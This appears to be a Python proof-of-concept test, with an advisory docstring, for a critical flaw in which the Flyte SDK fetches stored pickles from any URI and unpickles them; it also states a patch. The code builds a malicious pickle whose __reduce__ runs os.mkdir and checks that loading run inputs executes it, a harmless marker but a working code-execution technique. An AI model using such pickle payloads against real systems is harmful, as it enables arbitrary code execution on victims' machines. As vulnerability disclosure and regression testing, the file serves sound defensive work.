"""Stored pickles are fetched from any URI, and loaded.

A blob with the format `PythonPickle`, and a struct with the metadata `format: pickle`, contain
a URI. The SDK reads the URI with the rights of the process, and unpickles the content.

Severity: Critical, since 2.3.9 or older.

Patch: as in 1; and `DictTransformer.to_python_value`: load a pickle only if the *expected* type
has `allow_pickle`, not if the literal has it.
"""

import asyncio
import os
import pickle

from flyte import remote
from flyteidl2.core.literals_pb2 import Blob, BlobMetadata, Literal, Scalar
from flyteidl2.core.types_pb2 import BlobType, LiteralType
from harness import plane

Payload = type("Payload", (), {"__reduce__": lambda self: (os.mkdir, (mark,))})
kind = BlobType(format="PythonPickle")
blob = Literal(scalar=Scalar(blob=Blob(uri="pickle", metadata=BlobMetadata(type=kind))))
struct = Literal(scalar=Scalar(generic={"pickle_file": "pickle"}), metadata={"format": "pickle"})
stored = {"1": (LiteralType(blob=kind), blob), "2": (LiteralType(simple="STRUCT"), struct)}
for mark in stored:
    open("pickle", "wb").write(pickle.dumps(Payload()))
    plane.store(*stored[mark])
    asyncio.run(remote.RunDetails.get(name="r").inputs())
    assert os.path.exists(mark)
